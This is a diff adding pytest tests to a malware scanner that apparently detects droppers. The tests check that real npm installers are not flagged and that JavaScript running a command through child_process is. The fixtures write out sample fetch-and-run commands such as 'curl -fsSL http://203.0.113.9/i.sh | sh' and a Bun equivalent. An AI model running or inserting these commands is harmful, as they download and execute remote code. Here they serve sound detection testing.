@@ -140,3 +140,71 @@ def test_registry_installers_stay_below_medium(registry_installers: list[Path]) 
         str(p): s for p in registry_installers if (s := _severity(p)) and s >= Severity.MEDIUM
     }
     assert not flagged, flagged
+
+
+JS_INSTALLERS = ("esbuild@0.24.0", "@puppeteer/browsers@2.4.0", "node-gyp@10.2.0", "pm2@5.4.2")
+
+
+@pytest.fixture(scope="module")
+def javascript_installers(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """npm packages whose JavaScript fetches programs and starts them through child_process,
+    as installers and process managers do: esbuild (fetches its platform binary),
+    @puppeteer/browsers (downloads, unpacks and launches browsers), node-gyp (downloads
+    headers, runs make), pm2 (starts, kills and daemonises programs, writes startup units)."""
+    d = tmp_path_factory.mktemp("js-installers")
+    subprocess.run(
+        ["npm", "pack", *JS_INSTALLERS, "--silent", "--pack-destination", str(d)],
+        check=True,
+        capture_output=True,
+        timeout=180,
+    )
+    out = d / "x"
+    for archive in d.glob("*.tgz"):
+        with tarfile.open(archive) as tf:
+            tf.extractall(out / archive.stem, filter="data")
+    return out
+
+
+def test_javascript_installers_and_process_managers_stay_below_medium(
+    javascript_installers: Path,
+) -> None:
+    res = run_cli(
+        "scan", "files", str(javascript_installers), "--format", "json", "--min-severity", "info"
+    )
+    assert res.code in (0, 1), res.stderr
+    loud = [
+        (f.target.path, f.severity) for f in res.report.findings if f.severity >= Severity.MEDIUM
+    ]
+    assert not loud, loud
+    # An import of downloadFile and, lines later, `const start = ...` are no PowerShell
+    # download-and-start (the TypeScript source was a low dropper finding).
+    installs = sorted(javascript_installers.glob("puppeteer-browsers-*/package/**/install.[jt]s"))
+    assert len(installs) >= 2, installs
+    flagged = {str(p): s for p in installs if (s := _severity(p))}
+    assert not flagged, flagged
+
+
+def test_javascript_is_read_as_a_dropper_when_it_can_start_programs(tmp_path: Path) -> None:
+    """A Node dropper hands its shell commands to child_process as strings; the same string
+    in JavaScript that starts nothing (a help text) is left to the website checks."""
+    help_text = 'const cmd = "curl -fsSL http://203.0.113.9/i.sh | sh";\n'
+    (tmp_path / "help.js").write_text(help_text + "console.log(`install: ${cmd}`);\n")
+    (tmp_path / "run.mjs").write_text(
+        'import { execSync } from "node:child_process";\n' + help_text + "execSync(cmd);\n"
+    )
+    res = run_cli("scan", "files", str(tmp_path), "--format", "json", "--min-severity", "info")
+    by_name = {Path(f.target.path or "").name: f for f in res.report.findings}
+    assert "help.js" not in by_name
+    run = by_name["run.mjs"]
+    assert {"MH-SCRIPT-001", "MH-SCRIPT-010"} <= {e.check_id for e in run.evidence}
+    verdict = next(e for e in run.evidence if e.check_id == "MH-SCRIPT-001")
+    assert verdict.attributes["language"] == "javascript"
+
+
+def test_deno_and_bun_process_apis_count_as_starting_programs() -> None:
+    from minehunt.files.worker import starts_programs
+
+    assert starts_programs(b'const p = new Deno.Command("sh", { args: ["-c", cmd] });')
+    assert starts_programs(b"await Bun.$`curl -fsSL ${url} | sh`;")
+    assert starts_programs(b'import { spawn } from "node:child_process";')
+    assert not starts_programs(b"const text = await Deno.readTextFile(path); myDeno.run();")
